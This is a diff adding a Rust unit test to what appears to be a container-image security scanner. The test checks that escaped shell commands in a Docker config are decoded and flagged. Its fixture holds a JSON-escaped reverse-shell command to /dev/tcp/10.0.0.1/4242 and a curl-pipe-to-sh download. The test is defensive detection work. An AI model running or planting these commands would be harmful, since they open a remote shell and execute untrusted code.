@@ -45,3 +45,35 @@ impl Frontend for ImageConfigFrontend {
         output
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use shipshape_model::RuleMeta;
+
+    #[test]
+    fn commands_are_read_decoded_from_json_escapes() {
+        // Docker writes `>` and `&` as `\u003e` and `\u0026`: the raw text holds no `>&`.
+        let config = r#"{"architecture":"amd64","os":"linux","config":{"User":"app","Cmd":["/bin/sh","-c","bash -i \u003e\u0026 /dev/tcp/10.0.0.1/4242 0\u003e\u00261"]},"rootfs":{"type":"layers","diff_ids":[]},"history":[{"created_by":"/bin/sh -c curl -s http://10.1.1.1/x | sh"}]}"#;
+        let source = SourceFile::new("img@sha256:0/config.json", config);
+        let settings = shipshape_rules::RuleSettings::default();
+        let all = |_: &RuleMeta| true;
+        let context = FrontendContext {
+            settings: &settings,
+            is_enabled: &all,
+            build_args: &[],
+            env_files: &[],
+            cluster: &Default::default(),
+            secrets: None,
+            vuln: None,
+            os_packages: None,
+        };
+        let output = ImageConfigFrontend.check(&source, &context);
+        let shells: Vec<&Finding> = output.findings.iter().filter(|f| f.rule.code == "SUP111").collect();
+        assert_eq!(shells.len(), 1, "{:#?}", output.findings);
+        assert!(source.slice(shells[0].location.span).contains(r"\u003e\u0026 /dev/tcp"));
+        // The history step's download is SUP001's (a RUN), not SUP112's.
+        assert!(output.findings.iter().any(|f| f.rule.code == "SUP001"), "{:#?}", output.findings);
+        assert!(output.findings.iter().all(|f| f.rule.code != "SUP112"), "{:#?}", output.findings);
+    }
+}
